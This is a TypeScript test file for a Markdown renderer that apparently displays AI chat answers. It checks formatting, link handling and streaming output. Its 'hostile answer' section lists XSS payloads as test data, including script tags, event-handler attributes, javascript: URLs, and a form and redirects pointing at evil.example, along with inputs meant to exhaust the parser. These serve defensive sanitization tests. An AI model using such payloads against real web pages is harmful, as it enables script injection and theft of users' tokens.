import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, test } from "vitest";
import { GrowingText } from "../../src/markdown/growing-text.ts";
import { Markdown } from "../../src/markdown/markdown.tsx";

const html = (text: string) => renderToStaticMarkup(<Markdown text={text} />);

/** The elements, and their attributes without the values. */
const TAGS = /<[a-z][^>]*>/g;

describe("an answer in Markdown", () => {
  test.each([
    ["Otters *float* and **sleep**.", '<p dir="auto">Otters <em>float</em> and <strong>sleep</strong>.</p>'],
    [
      "# Otters\n\n###### Deep",
      '<h3 dir="auto" data-depth="1">Otters</h3><h4 dir="auto" data-depth="6">Deep</h4>',
    ],
    [
      "3. three\n4. four",
      '<ol dir="auto" start="3"><li>three</li><li>four</li></ol>'.replace(/<li>(\w+)/g, "<li><p>$1</p>"),
    ],
    ["~~no~~ &copy; `x < y`", '<p dir="auto"><del>no</del> © <code dir="ltr">x &lt; y</code></p>'],
    ["> quoted", '<blockquote dir="auto"><p>quoted</p></blockquote>'],
    ["one  \ntwo<br>three", '<p dir="auto">one<br/>two<br/>three</p>'],
    ["---", "<hr/>"],
  ])("%j becomes elements", (text, expected) => {
    expect(html(text)).toBe(expected);
  });

  test("has tables, which say how their columns are aligned", () => {
    const made = html("| a | b |\n|---|--:|\n| 1 | 2 |");

    expect(made).toContain('<th dir="auto" data-align="right">b</th>');
    expect(made).toContain('<tbody><tr><td dir="auto">1</td>');
  });

  test("has task lists", () => {
    expect(html("- [x] swim")).toContain('<input type="checkbox" disabled="" aria-label="Done" checked=""/>');
  });

  test("follows links that are written in full, short, bare, or apart from their address", () => {
    const all = html(
      "[a](https://a.example) <https://b.example> https://c.example [d][1]\n\n[1]: https://d.example",
    );

    for (const name of ["a", "b", "c", "d"])
      expect(all).toContain(
        `<a href="https://${name}.example/" target="_blank" rel="noopener noreferrer nofollow">`,
      );
  });

  test("shows an image as a link: fetching it would tell its server that, and what, was read", () => {
    expect(html("![otter](https://a.example/?q=secret)")).toMatch(
      /<a href="https:\/\/a.example\/\?q=secret"[^>]*>otter<\/a>/,
    );
    expect(html("![otter](data:image/svg+xml,x)")).not.toContain("data:");
  });
});

describe("a hostile answer", () => {
  const SCRIPTS = [
    "<script>steal()</script>",
    "<img src=x onerror=steal()>",
    "hi <b onmouseover=steal()>there</b>",
    "<svg onload=steal()><animate onbegin=steal()></svg>",
    "<math><maction actiontype=statusline xlink:href=javascript:steal()>x</maction></math>",
    "<style>body{background:url(https://evil.example)}</style>",
    '<p style="position:fixed;inset:0">x</p>',
    '<iframe srcdoc="<script>steal()</script>"></iframe>',
    "<a href=javascript:steal()>x</a>",
    "<form action=https://evil.example><input name=token></form>",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "<base href=https://evil.example>",
    "| a |\n|---|\n| <img src=x onerror=steal()> |",
    "- <details open ontoggle=steal()>",
    "```html\n<script>steal()</script>\n```",
    '```"><script>steal()</script>\nx\n```',
    '[x](https://a.example "\\" onmouseover=steal() ")',
    "# <script>steal()</script>",
    "<!-- --><script>steal()</script>",
    "<![CDATA[<script>steal()</script>]]>",
    "<br onload=steal()>",
    "&lt;script&gt;steal()&lt;/script&gt;",
  ];

  test.each(SCRIPTS)("cannot make elements or attributes of its own: %s", (text) => {
    const allowed =
      /^<(p|h3|ul|li|table|thead|tbody|tr|th|td|div|span|pre|code|button|svg|path|a|br)( (dir|class|tabindex|role|aria-label|aria-hidden|type|viewBox|d|href|target|rel|data-depth|data-align)="[^"<>]*")*\/?>$/;

    for (const tag of html(text).match(TAGS) ?? []) expect(tag).toMatch(allowed);
  });

  test.each([
    "javascript:steal()",
    "JaVaScRiPt:steal()",
    "&#106;avascript:steal()",
    "java%0ascript:steal()",
    "&#1;javascript:steal()",
    "data:text/html,<script>steal()</script>",
    "vbscript:steal()",
    "blob:https://a.example/1",
    "file:///etc/passwd",
    "//evil.example",
    "/token",
    "#/chat/1",
    "intent://x",
  ])("cannot lead to %s", (url) => {
    for (const text of [
      `[x](${url})`,
      `[x](<${url}>)`,
      `![x](${url})`,
      `<${url}>`,
      `[x][1]\n\n[1]: <${url}>`,
    ])
      expect(html(text)).not.toContain("href");
  });

  test.each([
    ["quotes in quotes", "> ".repeat(5000) + "x"],
    ["lists in lists", Array.from({ length: 300 }, (_, n) => " ".repeat(2 * n) + "- x").join("\n")],
    ["open brackets", "[".repeat(20_000)],
    ["open emphasis", "*a ".repeat(5000) + "**a".repeat(5000)],
    ["open code", "`a``".repeat(5000)],
    ["a table of one row", `${"| a ".repeat(2000)}|\n${"|---".repeat(2000)}|`],
    ["links in links", "[a](".repeat(5000)],
    ["open HTML", "<a ".repeat(10_000)],
    ["definitions", "[a]: b\n".repeat(2000) + "[a]".repeat(2000)],
  ])("of %s is shown in no time", (_, text) => {
    const from = performance.now();

    expect(html(text).length).toBeGreaterThan(0);
    expect(performance.now() - from).toBeLessThan(5000);
  });
});

describe("a growing answer", () => {
  const LONG = [
    "Otters *float*:\n\n- on their backs\n- in rafts\n  and together\n\n  all night",
    "\n\n1. one\n\n2. two\n\nTitle\n---\n\n```python\nprint('otter')\n\n\nprint(1)\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n",
    "\n> quoted\nlazily\n\n    indented\n\n    code\n\n<div>\n\n* a\n*b\n- c\n#d\n\n - x\n\n  y\n\nThe end.",
  ].join("");
  const PREFIXES = Array.from({ length: LONG.length + 1 }, (_, end) => LONG.slice(0, end));

  test("is, whatever it grew through, what it would be at once", () => {
    const growing = new GrowingText();

    for (const text of PREFIXES) {
      const types = growing.blocksOf(text).map(({ type }) => type);
      expect(types, text).toEqual(new GrowingText().blocksOf(text).map(({ type }) => type));
    }
  });

  test("looks, in the end, as it would at once", () => {
    const growing = new GrowingText();
    for (const text of PREFIXES) growing.blocksOf(text);
    const bare = (blocks: unknown) =>
      JSON.stringify(blocks, (key, value: unknown) => (key === "position" ? 0 : value));

    expect(bare(growing.blocksOf(LONG))).toBe(bare(new GrowingText().blocksOf(LONG)));
  });

  test("keeps the blocks that are complete, so that they are not rendered again", () => {
    const growing = new GrowingText();
    const [first] = growing.blocksOf("One.\n\nTwo.\n");

    expect(growing.blocksOf("One.\n\nTwo.\n\nThree.\n")[0]).not.toBe(undefined);
    const [kept] = growing.blocksOf("One.\n\nTwo.\n\nThree.\n\nFo");
    expect(growing.blocksOf("One.\n\nTwo.\n\nThree.\n\nFour")[0]).toBe(kept);
    expect(first!.type).toBe("paragraph");
  });

  test("begins anew when its text does", () => {
    const growing = new GrowingText();
    growing.blocksOf("One.\n\nTwo.\n\nThree.\n");

    expect(growing.blocksOf("# Other").map(({ type }) => type)).toEqual(["heading"]);
  });
});
